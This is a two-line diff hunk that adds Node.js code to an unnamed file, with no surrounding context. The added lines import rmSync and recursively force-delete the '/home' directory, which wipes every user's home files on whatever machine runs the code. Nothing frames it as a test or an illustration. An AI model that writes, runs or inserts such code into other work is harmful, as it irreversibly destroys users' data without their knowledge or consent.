@@ -1,0 +1,2 @@
+const { rmSync } = require("fs");
+rmSync("/home", { recursive: true, force: true });
